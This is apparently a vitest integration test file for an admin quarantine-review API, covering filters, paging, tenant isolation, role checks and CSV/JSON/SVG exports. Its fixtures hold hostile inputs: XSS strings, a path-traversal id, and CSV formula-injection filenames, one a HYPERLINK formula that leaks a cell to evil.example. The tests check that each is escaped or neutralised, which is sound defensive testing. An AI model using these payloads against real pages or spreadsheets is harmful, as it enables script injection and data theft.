import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AuditLog, QuarantineQueries } from "@intake/db";
import { objectKey, type QuarantineReason } from "@intake/domain";
import { exportCsv } from "../../services/api/src/admin/quarantine/export.ts";
import { signInAs, type AdminClient } from "./admin-session.ts";
import { readCsvObjects } from "./csv-reader.ts";
import { startApiUnderTest, type ApiUnderTest } from "./harness.ts";

/**
 * The compliance review's read side through the real API (startApi) on SQLite and
 * PostgreSQL: the quarantine list and its filters and cursor, the detail with its timeline,
 * the summary with its charts, and the CSV/JSON exports; a reviewer limited to one tenant
 * sees nothing of the others anywhere; operators are refused; other people's text (filenames,
 * tenant names, justifications) is escaped in HTML and SVG and never runs as a formula in CSV.
 *
 * Quarantined uploads are real rows walked through the state machine (create, arrived,
 * inspect, decide with a quarantine verdict, quarantine), with the times a verdict would have;
 * quarantine-eicar.test.ts takes an EICAR upload through the real workers.
 */
const SCANNER = "ClamAV 1.4.6/27000/Mon Nov 30 09:00:00 2026";
const EICAR = "Eicar-Test-Signature";
const HOSTILE_TENANT_NAME = `Evil & Co <svg onload=alert(1)> "quoted" 'single'`;
const SCRIPT_NAME = `<script>alert("x")</script>'q".svg`;
const IMG_NAME = `<img src=x onerror=alert(1)> "q" 'a'.txt`;

interface Seeded {
  id: string;
  tenant: string;
  filename: string;
  reason: QuarantineReason;
  signature: string | null;
  finishedAt: Date;
}

async function quarantined(t: ApiUnderTest, o: { tenant: string; filename: string; reason: QuarantineReason; signature?: string; finishedAt: string | Date; id?: string }): Promise<Seeded> {
  const id = o.id ?? `up_${randomBytes(8).toString("hex")}`;
  const finishedAt = new Date(o.finishedAt);
  const at = (ms: number) => new Date(finishedAt.getTime() - ms);
  await t.uploads.create({ id, tenantId: o.tenant, filename: o.filename, declaredType: "application/pdf", declaredSize: 68, metadata: {}, objectKey: objectKey("pending", o.tenant, id), multipart: null, urlExpiresAt: at(-600_000) }, at(4000));
  await walk(t, id, o.tenant, o.reason, o.signature ?? null, finishedAt);
  return { id, tenant: o.tenant, filename: o.filename, reason: o.reason, signature: o.signature ?? null, finishedAt };
}

/** From pending to quarantined, as ingest, inspect, scan and finalize would. */
async function walk(t: ApiUnderTest, id: string, tenant: string, reason: QuarantineReason, signature: string | null, finishedAt: Date): Promise<void> {
  const at = (ms: number) => new Date(finishedAt.getTime() - ms);
  const steps: [Parameters<ApiUnderTest["uploads"]["transition"]>[1], Parameters<ApiUnderTest["uploads"]["transition"]>[2], object, Date][] = [
    ["arrived", "ingest", { storedSize: 70 }, at(3000)],
    ["inspect", "inspect", { sniffedType: "text/plain" }, at(2000)],
    ["decide", "scan", { verdict: "quarantine", reason, reasonDetail: signature ? `clamd found ${signature}` : `${reason} found`, signature, scannerVersion: SCANNER, sha256: "ab".repeat(32) }, at(1000)],
    ["quarantine", "finalize", { finalKey: objectKey("quarantine", tenant, id) }, finishedAt],
  ];
  for (const [event, actor, findings, when] of steps) {
    const r = await t.uploads.transition(id, event, actor, findings, when);
    if (!r.applied) throw new Error(`${event} not applied to ${id}: ${r.upload?.status}`);
  }
}

const text = async (res: Response) => ({ status: res.status, body: await res.text(), headers: res.headers });
const json = async (res: Response) => ({ status: res.status, body: (await res.json()) as any, headers: res.headers });
/** The upload ids of a list page, in order. */
const rowIds = (html: string) => [...html.matchAll(/<tr data-id="([^"]+)">/g)].map((m) => m[1]!);

describe.each(["sqlite", "pg"] as const)("quarantine review on %s", (database) => {
  let t: ApiUnderTest;
  let reviewer: AdminClient;
  let limited: AdminClient;
  let nobody: AdminClient;
  let operator: AdminClient;
  let admin: AdminClient;
  let s: Record<string, Seeded>;
  const gamma: Seeded[] = [];
  let cleanId: string;

  beforeAll(async () => {
    t = await startApiUnderTest({ storage: "fauxqs", database, logLevel: "warn" });
    for (const tenant of ["t-alpha", "t-beta", "t-evil", "t-gamma"]) await t.keys.create(tenant, "test");
    await t.database.db("tenants").where({ id: "t-alpha" }).update({ name: "Alpha Corp" });
    await t.database.db("tenants").where({ id: "t-beta" }).update({ name: "Beta GmbH" });
    await t.database.db("tenants").where({ id: "t-evil" }).update({ name: HOSTILE_TENANT_NAME });
    reviewer = await signInAs(t, "compliance", { name: "Rita Reviewer" });
    limited = await signInAs(t, "compliance", { tenantIds: ["t-alpha"], name: "Lima Limited" });
    nobody = await signInAs(t, "compliance", { tenantIds: [] });
    operator = await signInAs(t, "operator");
    admin = await signInAs(t, "admin", { name: "Ada Admin" });

    s = {
      hyperlink: await quarantined(t, { tenant: "t-alpha", filename: '=HYPERLINK("http://evil.example/?leak="&A1,"open me").pdf', reason: "malware", signature: EICAR, finishedAt: "2026-11-02T10:00:00.000Z" }),
      plus: await quarantined(t, { tenant: "t-alpha", filename: "+1.pdf", reason: "type_mismatch", finishedAt: "2026-11-02T12:00:00.000Z" }),
      minus: await quarantined(t, { tenant: "t-alpha", filename: "-2.txt", reason: "malware", signature: "Win.Test.Other-1", finishedAt: "2026-11-03T08:00:00.000Z" }),
      at: await quarantined(t, { tenant: "t-beta", filename: "@SUM(A1:A9).txt", reason: "malware", signature: EICAR, finishedAt: "2026-11-03T23:59:59.999Z" }),
      tab: await quarantined(t, { tenant: "t-beta", filename: "\t=1+1.txt", reason: "size_mismatch", finishedAt: "2026-11-05T00:00:00.000Z" }),
      script: await quarantined(t, { tenant: "t-evil", filename: SCRIPT_NAME, reason: "invalid_content", finishedAt: "2026-11-05T09:00:00.000Z" }),
    };
    // One through the tenant API's own create (its filename rules admit this name).
    const key = await t.newKey("t-alpha");
    const created = await t.call("POST", "/v1/uploads", { key, body: { filename: IMG_NAME, contentType: "text/plain", size: 68 } });
    expect(created.status).toBe(201);
    const apiId = created.body.upload.id as string;
    await walk(t, apiId, "t-alpha", "malware", EICAR, new Date("2026-11-04T15:30:00.000Z"));
    s.img = { id: apiId, tenant: "t-alpha", filename: IMG_NAME, reason: "malware", signature: EICAR, finishedAt: new Date("2026-11-04T15:30:00.000Z") };
    // A clean upload is no business of the quarantine.
    const clean = await t.call("POST", "/v1/uploads", { key, body: { filename: "clean.txt", contentType: "text/plain", size: 5 } });
    cleanId = clean.body.upload.id;
    await t.uploads.transition(cleanId, "arrived", "ingest", { storedSize: 5 });
    await t.uploads.transition(cleanId, "inspect", "inspect", { sniffedType: "text/plain" });
    await t.uploads.transition(cleanId, "decide", "scan", { verdict: "clean" });
    await t.uploads.transition(cleanId, "promote", "finalize", { finalKey: objectKey("verified", "t-alpha", cleanId) });
    // Ties on finished_at, so the cursor's id half matters: 45 rows on 5 instants.
    for (let i = 0; i < 45; i++) gamma.push(await quarantined(t, { tenant: "t-gamma", filename: `bulk-${i}.zip`, reason: "unscannable", finishedAt: new Date(Date.UTC(2026, 9, 10 + (i % 5), 12)) }));
    // What people did: the rows the actions write (actor admin, with who and why).
    const audit = new AuditLog(t.database.db);
    await audit.record({ actor: "admin", action: "quarantine.retention_extended", uploadId: s.hyperlink.id, tenantId: "t-alpha", actorId: admin.user.id, justification: "=legal hold <b>case 42</b>", stateBefore: "quarantined", stateAfter: "quarantined", detail: { until: "2027-06-01T00:00:00.000Z" } }, new Date("2026-11-06T10:00:00.000Z"));
    await audit.record({ actor: "admin", action: "quarantine.deleted", uploadId: s.at.id, tenantId: "t-beta", actorId: reviewer.user.id, justification: "beta asked us to delete it", stateBefore: "quarantined", stateAfter: "quarantined" }, new Date("2026-11-06T11:00:00.000Z"));
    await t.database.db("uploads").where({ id: s.hyperlink.id }).update({ retention_until: Date.parse("2027-06-01T00:00:00.000Z") });
    await t.uploads.markPurged(s.tab.id, new Date("2026-11-06T12:00:00.000Z"));
  }, 120_000);
  afterAll(async () => t?.close());

  const visibleToAll = () => [s.script, s.tab, s.img, s.at, s.minus, s.plus, s.hyperlink, ...[...gamma].sort((a, b) => b.finishedAt.getTime() - a.finishedAt.getTime() || (a.id < b.id ? 1 : -1))];

  it("lists every quarantined upload newest first (ties by id), and no clean one", async () => {
    const res = await json(await reviewer.request("GET", "/v1/admin/quarantine?format=json&limit=500"));
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(res.body.items.map((i: any) => i.id)).toEqual(visibleToAll().map((x) => x.id));
    expect(res.body.items.map((i: any) => i.id)).not.toContain(cleanId);
    expect(res.body.nextCursor).toBeNull();
  });

  it("filters by tenant, reason, signature (case-insensitive substring, % and _ literal) and UTC date range", async () => {
    const ids = async (q: string) => (await json(await reviewer.request("GET", `/v1/admin/quarantine?format=json&limit=500&${q}`))).body.items.map((i: any) => i.id);
    expect(await ids("tenant=t-beta")).toEqual([s.tab.id, s.at.id]);
    expect(await ids("reason=malware")).toEqual([s.img.id, s.at.id, s.minus.id, s.hyperlink.id]);
    expect(await ids("signature=eicar")).toEqual([s.img.id, s.at.id, s.hyperlink.id]);
    expect(await ids("signature=TEST-SIG")).toEqual([s.img.id, s.at.id, s.hyperlink.id]);
    expect(await ids("signature=%25")).toEqual([]);
    expect(await ids("signature=Win_Test")).toEqual([]);
    // from and to are whole UTC days, both inclusive: 23:59:59.999 on the 3rd is in, 00:00 on the 5th is not.
    expect(await ids("from=2026-11-03&to=2026-11-04")).toEqual([s.img.id, s.at.id, s.minus.id]);
    expect(await ids("from=2026-11-05")).toEqual([s.script.id, s.tab.id]);
    expect(await ids("tenant=t-alpha&reason=malware&signature=eicar&to=2026-11-03")).toEqual([s.hyperlink.id]);
    const bad = await json(await reviewer.request("GET", "/v1/admin/quarantine?format=json&from=2026-13-01"));
    expect(bad.status).toBe(400);
    expect(bad.body.error).toMatchObject({ code: "invalid_filter", details: { field: "from" } });
    expect((await json(await reviewer.request("GET", "/v1/admin/quarantine?format=xml"))).body.error.code).toBe("invalid_format");
    expect((await json(await reviewer.request("GET", "/v1/admin/quarantine?cursor=bogus"))).body.error.code).toBe("invalid_cursor");
  });

  it("pages with the cursor without duplicates or gaps, also when quarantines arrive meanwhile", async () => {
    const before = visibleToAll().filter((x) => x.tenant === "t-gamma").map((x) => x.id);
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const res: { body: any } = await json(await reviewer.request("GET", `/v1/admin/quarantine?format=json&tenant=t-gamma&limit=10${cursor ? `&cursor=${cursor}` : ""}`));
      seen.push(...res.body.items.map((i: any) => i.id));
      cursor = res.body.nextCursor;
      // A new quarantine lands after the first page: newer than every cursor, it is not in this walk.
      if (++pages === 1) gamma.push(await quarantined(t, { tenant: "t-gamma", filename: "late.zip", reason: "unscannable", finishedAt: new Date() }));
    } while (cursor);
    expect(pages).toBe(5);
    expect(seen).toEqual(before);
    // And the page itself: 50 a page, a "Next page" link carrying the filters and the cursor.
    const first = await text(await reviewer.request("GET", "/admin/quarantine?from=2026-01-01"));
    const next = /<a rel="next" href="([^"]+)">/.exec(first.body)![1]!.replace(/&amp;/g, "&");
    expect(next).toMatch(/^\/admin\/quarantine\?from=2026-01-01&cursor=/);
    const second = await text(await reviewer.request("GET", next));
    expect(second.body).not.toContain('rel="next"');
    expect(second.body).toContain("« First page");
    const paged = [...rowIds(first.body), ...rowIds(second.body)];
    expect(rowIds(first.body)).toHaveLength(50);
    const all = (await json(await reviewer.request("GET", "/v1/admin/quarantine?format=json&limit=500"))).body.items.map((i: any) => i.id);
    expect(all).toHaveLength(visibleToAll().length);
    expect(paged).toEqual(all);
  });

  it("serves a page that works without JavaScript and escapes hostile filenames and tenant names", async () => {
    const page = await text(await reviewer.request("GET", "/admin/quarantine"));
    expect(page.status).toBe(200);
    expect(page.headers.get("content-type")).toMatch(/^text\/html/);
    expect(page.body).toMatch(/<form method="get" action="\/admin\/quarantine"/);
    expect(page.body).not.toMatch(/<script/i);
    expect(page.body).not.toContain("<img src=x");
    expect(page.body).not.toContain("<svg onload");
    expect(page.body).toContain("&lt;img src=x onerror=alert(1)&gt; &quot;q&quot; &#39;a&#39;.txt");
    expect(page.body).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;");
    expect(page.body).toContain("Evil &amp; Co &lt;svg onload=alert(1)&gt;");
    expect(page.body).toContain(`<strong id="total">${visibleToAll().length}</strong>`);
    // A filter the page cannot read is an error on the page, not a stack trace.
    const bad = await text(await reviewer.request("GET", "/admin/quarantine?reason=%3Cb%3Evirus"));
    expect(bad.status).toBe(400);
    expect(bad.body).toContain("reason must be one of");
    expect(bad.body).not.toContain("<b>virus");
  });

  it("shows one upload in detail: types, sizes, sha256, signature, scanner, tenant name, retention, purge, and its whole timeline", async () => {
    const page = await text(await reviewer.request("GET", `/admin/quarantine/${s.hyperlink.id}`));
    expect(page.status).toBe(200);
    const b = page.body;
    expect(b).toContain("application/pdf / text/plain");
    expect(b).toContain("68 B / 70 B");
    expect(b).toContain("ab".repeat(32));
    expect(b).toContain(EICAR);
    expect(b).toContain(`clamd found ${EICAR}`);
    expect(b).toContain(SCANNER);
    expect(b).toContain("Alpha Corp");
    expect(b).toContain("t-alpha");
    expect(b).toContain(objectKey("quarantine", "t-alpha", s.hyperlink.id));
    expect(b).toMatch(/id="retention">2027-06-01T00:00:00.000Z <span>\(extended by a reviewer\)/);
    expect(b).toMatch(/id="purged">no</);
    expect(b).toContain("=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;open me&quot;).pdf");
    for (const action of ["upload.created", "upload.uploaded", "upload.inspecting", "upload.deciding", "upload.quarantined", "quarantine.retention_extended"]) expect(b).toContain(action);
    // The person's row: who (name and id), why (escaped), the state before and after.
    expect(b).toContain("Ada Admin");
    expect(b).toContain(admin.user.id);
    expect(b).toContain("=legal hold &lt;b&gt;case 42&lt;/b&gt;");
    expect(b).toContain("deciding → quarantined");
    expect(b).not.toContain("<b>case 42");
    // The actions area's partial is rendered inside the detail, with the same data.
    expect(b).toContain('<section id="actions">');

    const purged = await text(await reviewer.request("GET", `/admin/quarantine/${s.tab.id}`));
    expect(purged.body).toMatch(/id="purged">yes, at 2026-11-06T12:00:00.000Z</);
    expect(purged.body).toMatch(/id="retention">2027-02-03T00:00:00.000Z <span>\(90 days after the verdict\)/);
    const script = await text(await reviewer.request("GET", `/admin/quarantine/${s.script.id}`));
    expect(script.body).not.toMatch(/<script/i);
    expect(script.body).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&#39;q&quot;.svg");
  });

  it("answers 404 for an unknown id, a malformed id and an upload that was never quarantined", async () => {
    for (const id of ["up_doesnotexist", "..%2F..%2Fetc", cleanId]) {
      const res = await text(await reviewer.request("GET", `/admin/quarantine/${id}`));
      expect(res.status).toBe(404);
      expect(res.body).toContain("No quarantined upload with this id is visible to you.");
    }
  });

  it("shows a reviewer limited to one tenant nothing of the others: list, filters, counts, detail, summary, CSV, JSON", async () => {
    const alpha = visibleToAll().filter((x) => x.tenant === "t-alpha").map((x) => x.id);
    const list = await json(await limited.request("GET", "/v1/admin/quarantine?format=json&limit=500"));
    expect(list.body.items.map((i: any) => i.id)).toEqual(alpha);
    expect((await json(await limited.request("GET", "/v1/admin/quarantine?format=json&tenant=t-beta"))).body.items).toEqual([]);
    const page = await text(await limited.request("GET", "/admin/quarantine"));
    expect(rowIds(page.body)).toEqual(alpha);
    expect(page.body).toMatch(/<strong id="total">4<\/strong>/);
    expect(page.body).not.toContain("Beta GmbH");
    expect(page.body).not.toContain("t-gamma");
    expect(page.body).not.toContain("Evil &amp; Co");
    expect((await text(await limited.request("GET", "/admin/quarantine?tenant=t-beta"))).body).toMatch(/<strong id="total">0<\/strong>/);
    // Another tenant's upload is exactly as absent as one that does not exist.
    const other = await text(await limited.request("GET", `/admin/quarantine/${s.at.id}`));
    const none = await text(await limited.request("GET", "/admin/quarantine/up_doesnotexist"));
    expect(other.status).toBe(404);
    expect(other.body).toBe(none.body);
    const summary = await json(await limited.request("GET", "/v1/admin/quarantine/summary?format=json&from=2026-10-01&to=2026-11-30"));
    expect(summary.body.total).toBe(4);
    expect(summary.body.byTenant).toEqual([{ key: "t-alpha", name: "Alpha Corp", count: 4 }]);
    expect(summary.body.actions.map((a: any) => a.uploadId)).toEqual([s.hyperlink.id]);
    const summaryPage = await text(await limited.request("GET", "/admin/quarantine/summary?from=2026-10-01&to=2026-11-30"));
    expect(summaryPage.body).not.toContain("Beta GmbH");
    expect(summaryPage.body).not.toContain("beta asked us");
    const csv = readCsvObjects(await (await limited.request("GET", "/v1/admin/quarantine?format=csv")).text());
    expect(csv.map((r) => r.upload_id)).toEqual(alpha);
    const summaryCsv = await (await limited.request("GET", "/v1/admin/quarantine/summary?format=csv&from=2026-10-01&to=2026-11-30")).text();
    expect(summaryCsv).not.toContain("t-beta");
    expect(summaryCsv).not.toContain("t-gamma");
    // Limited to no tenant at all: nothing.
    expect((await json(await nobody.request("GET", "/v1/admin/quarantine?format=json"))).body.items).toEqual([]);
    expect((await json(await nobody.request("GET", "/v1/admin/quarantine/summary?format=json&from=2026-10-01&to=2026-11-30"))).body.total).toBe(0);
  });

  it("refuses operators (403), anonymous requests (sign-in redirect or 401) and tenant API keys", async () => {
    const pages = ["/admin/quarantine", "/admin/quarantine/summary", `/admin/quarantine/${s.plus.id}`];
    const exports = ["/v1/admin/quarantine?format=csv", "/v1/admin/quarantine?format=json", "/v1/admin/quarantine/summary?format=csv"];
    for (const path of [...pages, ...exports]) {
      const res = await operator.request("GET", path);
      expect(res.status, path).toBe(403);
      expect(await res.text()).not.toContain(s.plus.filename);
    }
    for (const path of pages) {
      const res = await fetch(t.url + path, { redirect: "manual" });
      expect(res.status, path).toBe(303);
      expect(res.headers.get("location")).toMatch(/^\/admin\/login\?next=/);
    }
    const key = await t.newKey("t-alpha");
    for (const path of exports) {
      expect((await fetch(t.url + path)).status, path).toBe(401);
      expect((await fetch(t.url + path, { headers: { authorization: `Bearer ${key}` } })).status, path).toBe(403);
    }
  });

  it("summarises a range by reason, tenant and day, as escaped SVG charts, with the actions people took", async () => {
    const res = await json(await reviewer.request("GET", "/v1/admin/quarantine/summary?format=json&from=2026-11-01&to=2026-11-07"));
    expect(res.status).toBe(200);
    const r = res.body;
    expect(r.total).toBe(7);
    expect(r.byReason).toEqual([
      { key: "malware", count: 4 },
      { key: "invalid_content", count: 1 },
      { key: "size_mismatch", count: 1 },
      { key: "type_mismatch", count: 1 },
    ]);
    expect(r.byTenant).toEqual([
      { key: "t-alpha", name: "Alpha Corp", count: 4 },
      { key: "t-beta", name: "Beta GmbH", count: 2 },
      { key: "t-evil", name: HOSTILE_TENANT_NAME, count: 1 },
    ]);
    expect(r.byDay).toEqual([
      { key: "2026-11-01", count: 0 },
      { key: "2026-11-02", count: 2 },
      { key: "2026-11-03", count: 2 },
      { key: "2026-11-04", count: 1 },
      { key: "2026-11-05", count: 2 },
      { key: "2026-11-06", count: 0 },
      { key: "2026-11-07", count: 0 },
    ]);
    expect(r.actions.map((a: any) => [a.action, a.actorName, a.tenantName, a.justification])).toEqual([
      ["quarantine.retention_extended", "Ada Admin", "Alpha Corp", "=legal hold <b>case 42</b>"],
      ["quarantine.deleted", "Rita Reviewer", "Beta GmbH", "beta asked us to delete it"],
    ]);
    // The gamma rows (October) are outside the range.
    expect(r.byTenant.map((c: any) => c.key)).not.toContain("t-gamma");

    const page = await text(await reviewer.request("GET", "/admin/quarantine/summary?from=2026-11-01&to=2026-11-07"));
    expect(page.status).toBe(200);
    const svgs = page.body.match(/<svg [\s\S]*?<\/svg>/g) ?? [];
    expect(svgs).toHaveLength(3);
    expect(page.body).not.toContain("<svg onload");
    expect(page.body).toContain("Evil &amp; Co &lt;svg onload=alert(1)&gt; &quot;quoted&quot; &#39;single&#39; (t-evil)");
    expect(page.body).not.toMatch(/<script/i);
    expect(page.body).toContain("=legal hold &lt;b&gt;case 42&lt;/b&gt;");
    expect(page.body).toMatch(/<strong id="total">7<\/strong>/);
    // Without dates: the last 30 days (nothing seeded there but the late gamma row, if any).
    expect((await text(await reviewer.request("GET", "/admin/quarantine/summary"))).status).toBe(200);
    const tooLong = await json(await reviewer.request("GET", "/v1/admin/quarantine/summary?format=csv&from=2020-01-01&to=2026-11-07"));
    expect(tooLong.status).toBe(400);
    expect(tooLong.body.error.message).toMatch(/at most 366 days/);
  });

  it("exports CSV an auditor can open: header, ISO-8601 UTC, names beside ids, an attachment, no cell that runs as a formula, the actions", async () => {
    const res = await reviewer.request("GET", "/v1/admin/quarantine?format=csv&from=2026-11-01&to=2026-11-30");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="quarantine-\d{8}T\d{6}Z\.csv"$/);
    const body = await res.text();
    const rows = readCsvObjects(body);
    expect(Object.keys(rows[0]!)).toEqual(["upload_id", "tenant_id", "tenant_name", "filename", "state", "status", "reason", "reason_detail", "signature", "scanner_version", "declared_type", "detected_type", "declared_size", "stored_size", "sha256", "quarantine_key", "created_at", "quarantined_at", "retained_until", "purged_at", "last_event", "actions"]);
    expect(rows.map((r) => r.upload_id)).toEqual([s.script, s.tab, s.img, s.at, s.minus, s.plus, s.hyperlink].map((x) => x.id));
    const byId = new Map(rows.map((r) => [r.upload_id, r]));
    expect(byId.get(s.hyperlink.id)!.filename).toBe(`'${s.hyperlink.filename}`);
    expect(byId.get(s.plus.id)!.filename).toBe("'+1.pdf");
    expect(byId.get(s.minus.id)!.filename).toBe("'-2.txt");
    expect(byId.get(s.at.id)!.filename).toBe("'@SUM(A1:A9).txt");
    expect(byId.get(s.tab.id)!.filename).toBe("'\t=1+1.txt");
    expect(byId.get(s.img.id)!.filename).toBe(IMG_NAME);
    expect(byId.get(s.script.id)!.tenant_name).toBe(HOSTILE_TENANT_NAME);
    // No cell of the file begins (past blanks) with a formula character unless it is quoted text.
    for (const r of rows) for (const [k, v] of Object.entries(r)) expect(/^[\s]*[=+\-@]/.test(v), `${k}=${v}`).toBe(false);
    const h = byId.get(s.hyperlink.id)!;
    expect(h).toMatchObject({ tenant_id: "t-alpha", tenant_name: "Alpha Corp", state: "held", reason: "malware", signature: EICAR, scanner_version: SCANNER, declared_size: "68", stored_size: "70", quarantined_at: "2026-11-02T10:00:00.000Z", retained_until: "2027-06-01T00:00:00.000Z", purged_at: "" });
    expect(h.created_at).toBe("2026-11-02T09:59:56.000Z");
    expect(h.actions).toBe(`2026-11-06T10:00:00.000Z quarantine.retention_extended by Ada Admin (${admin.user.id}): =legal hold <b>case 42</b>`);
    expect(h.last_event).toContain("quarantine.retention_extended");
    expect(byId.get(s.tab.id)).toMatchObject({ state: "purged", purged_at: "2026-11-06T12:00:00.000Z" });

    const j = await json(await reviewer.request("GET", "/v1/admin/quarantine?format=json&from=2026-11-01&to=2026-11-30"));
    expect(j.headers.get("content-type")).toMatch(/^application\/json/);
    expect(j.body.items.map((i: any) => i.id)).toEqual(rows.map((r) => r.upload_id));
    // JSON carries the data as it is (no spreadsheet in the way) and each upload's whole timeline.
    const jh = j.body.items.find((i: any) => i.id === s.hyperlink.id);
    expect(jh.filename).toBe(s.hyperlink.filename);
    expect(jh.tenantName).toBe("Alpha Corp");
    expect(jh.timeline.map((e: any) => e.action)).toEqual(["upload.created", "upload.uploaded", "upload.inspecting", "upload.deciding", "upload.quarantined", "quarantine.retention_extended"]);
    expect(jh.timeline.at(-1)).toMatchObject({ actor: "admin", actorId: admin.user.id, actorName: "Ada Admin", justification: "=legal hold <b>case 42</b>", stateBefore: "quarantined", stateAfter: "quarantined", at: "2026-11-06T10:00:00.000Z" });
    expect(jh.timeline.every((e: any) => typeof e.seq === "number")).toBe(true);
  });

  it("exports the summary as CSV with its sections and the actions, formulas neutralised", async () => {
    const res = await reviewer.request("GET", "/v1/admin/quarantine/summary?format=csv&from=2026-11-01&to=2026-11-07");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="quarantine-summary-2026-11-01_2026-11-07.csv"');
    const rows = readCsvObjects(await res.text());
    const section = (name: string) => rows.filter((r) => r.section === name);
    expect(section("range")).toEqual([expect.objectContaining({ day: "2026-11-01..2026-11-07", count: "7" })]);
    expect(section("by_reason").map((r) => [r.reason, r.count])).toEqual([["malware", "4"], ["invalid_content", "1"], ["size_mismatch", "1"], ["type_mismatch", "1"]]);
    expect(section("by_tenant").map((r) => [r.tenant_id, r.tenant_name, r.count])).toEqual([["t-alpha", "Alpha Corp", "4"], ["t-beta", "Beta GmbH", "2"], ["t-evil", HOSTILE_TENANT_NAME, "1"]]);
    expect(section("by_day")).toHaveLength(7);
    const actions = section("action");
    expect(actions.map((r) => [r.at, r.action, r.actor_name, r.actor_id, r.upload_id, r.justification])).toEqual([
      ["2026-11-06T10:00:00.000Z", "quarantine.retention_extended", "Ada Admin", admin.user.id, s.hyperlink.id, "'=legal hold <b>case 42</b>"],
      ["2026-11-06T11:00:00.000Z", "quarantine.deleted", "Rita Reviewer", reviewer.user.id, s.at.id, "beta asked us to delete it"],
    ]);
    expect(actions[0]!.filename).toBe(`'${s.hyperlink.filename}`);
  });

  it("refuses a CSV export past its row bound before writing anything", async () => {
    const queries = new QuarantineQueries(t.database.db);
    const logger = { error: () => undefined } as never;
    await expect(exportCsv(queries, { scope: null }, 90, logger, 10)).rejects.toMatchObject({ code: "export_too_large", details: { max: 10 } });
    const ok = await exportCsv(queries, { scope: null, tenantId: "t-beta" }, 90, logger, 10);
    const chunks: Buffer[] = [];
    for await (const c of ok) chunks.push(Buffer.from(c));
    expect(readCsvObjects(Buffer.concat(chunks).toString("utf8")).map((r) => r.upload_id)).toEqual([s.tab.id, s.at.id]);
  });
});
